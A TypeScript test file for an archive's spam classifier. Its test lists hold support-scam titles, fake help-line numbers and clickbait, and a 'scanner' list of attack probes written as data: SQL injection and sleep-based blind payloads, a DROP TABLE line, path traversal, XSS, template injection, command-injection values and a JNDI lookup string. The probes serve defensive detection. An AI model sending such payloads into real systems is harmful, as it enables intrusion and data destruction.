import { describe, expect, test } from 'vitest';
import { isSpam, spamRuleOf } from '../../../../src/archive/builder/spam/spam.ts';
import { SPAM as MADE_SPAM, ODD_BOARDS, ODD_TASKS } from '../../../bench/make/oddities.ts';
import { realNames } from '../real-names.ts';

/** Names line by line; those of adverts as the archive has them, but with numbers that nobody has. */
function namesOf(text: string): string[] {
  return text.trim().split('\n');
}

const SPAM: Readonly<Record<string, readonly string[]>> = {
  'phone number': namesOf(`
What is the ☎️ number of the travel agency's customer service? +1-800-555-0100
☎️+1-801-(555)-(0105) American Airlines
+1~801~555~0105
🔰+1~801~555~0105
+ 1-(801)-555-(0105)
+39 0200-70-2383 vuelo
+48 (48) 8880001 rezerwacja
QuickBooks Error Support Number +1 (805) 555-0156
+①-⑧⓪⓪-⑤⑤⑤-⓪①⓪⓪
+1️⃣8️⃣0️⃣0️⃣5️⃣5️⃣5️⃣0️⃣1️⃣0️⃣0️⃣
`),
  'help line': namesOf(`
[[request~refund]]How do I request a refund from Expedia?
((Help~Line))How to speak to a live agent at QuickBooks
~Cancel/policy~ 24 hours free cancellation ✈️
Call Now!!! How do I change my flight name?
can-you-change-a-name-on-a-flight-ticket
how-to-cancel-a-lufthansa-flight-without-fee
What is the cancellation policy of Delta Airlines?
support-line-for-british-airlines-27-6-2025
Lufthansa Airlines Customer Service Hotline
1⇌8.01-55.5⇌01.05 how to call American Airlines
¿Cómo hablar con una persona en American Airlines?
Can I get a human at American Airlines?
Does Expedia have 24/7 customer service?
how do i complain to expedia
How do I recover my Coinbase account?
How to contact Trust Wallet support by phone
How to Fix QuickBooks Error 1603?
Robinhood support number
QuickBooks Payroll Support Number 1-8OO-555-O1OO
𝟏-𝟖𝟖𝟖-𝟓𝟓𝟓-𝟎𝟏𝟎𝟎 QuickBooks Desktop support
①⑧⓪⓪-555-0100 customer service
Саll Ехреdiа Сustоmеr Sеrviсе Numbеr
Call today: 1.888.555.0100 Airlines Reservations
`),
  scanner: namesOf(String.raw`
01/01/1967' AND 2*3*8=6*8 AND 'AncJ'='AncJ
./01/01/1967
^(#$!@#$)(()))******
!(()&&!|*|*|
1'"
1' OR '1'='1
' or 1=1 --
-1' OR 2+813-813-1=0+0+0+1 --
-1; waitfor delay '0:0:15' --
if(now()=sysdate(),sleep(15),0)
(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'"
1 OR 79=(SELECT 79 FROM PG_SLEEP(15))--
1' UNION SELECT NULL,NULL--
'; DROP TABLE users; --
../../../../etc/passwd
..\..\windows\win.ini
%2e%2e%2f%2e%2e%2fetc
<script>alert(1)</script>
"><img src=x onerror=alert(1)>
javascript:alert(1)
{{7*7}}
1%2527%2522
;nslookup example.org
|ping -c 3 127.0.0.1
`).concat('$\u007bjndi:ldap://example.org/a}'),
  clickbait: namesOf(`
คลิปไวรัล!! ไอซ์ ปรีชญา
วีเค..!! ชมคลิปเต็ม
คลิปคุณพ่อ
[VIRAL] full video leaked on Twitter
Watch Dune 2 full movie online free
`),
};

describe.each(Object.entries(SPAM))('by the rule of the %s', (rule, names) => {
  test.each(names)('%s is spam', (name) => {
    expect(spamRuleOf(name)).toBe(rule);
  });
});

test('no real name is spam, however much it looks like it', () => {
  expect(realNames.length).toBeGreaterThan(300);
  expect(realNames.filter((name) => spamRuleOf(name) !== null)).toEqual([]);
});

test('of the odd names of a made archive spam is spam, and leftovers are not', () => {
  expect(MADE_SPAM.filter((name) => spamRuleOf(name) === null)).toEqual([]);
  expect(ODD_TASKS.filter((name) => spamRuleOf(name) !== null)).toEqual([]);
  expect(ODD_BOARDS.filter((name) => spamRuleOf(name) !== null)).toEqual(ODD_BOARDS.slice(0, 6));
});

describe('a thing is spam', () => {
  test('by any of its names', () => {
    expect(isSpam(['Flights', 'How do I request a refund from Expedia?'])).toBe(true);
    expect(isSpam(['Flights', null, undefined])).toBe(false);
  });

  test('by a description that gives the number of a help line, and by no other', () => {
    expect(isSpam(['Refunds'], 'To get a refund from the airline ring +1-800-555-0100 at any hour.')).toBe(
      true,
    );
    expect(isSpam(['Calls'], 'Calls to an airline, with questions about a refund.')).toBe(false);
    expect(isSpam(['Digits'], 'Spoken numbers such as +1-800-555-0100.')).toBe(false);
  });
});

test('a name of any length is judged at once', () => {
  const long = ["'", '1-', 'cancel ', '../', '<img ', 'คลิป', '((', 'and 1*', '1O', 'select '];
  expect(long.map((text) => typeof isSpam([text.repeat(200_000)]))).toEqual(long.map(() => 'boolean'));
});
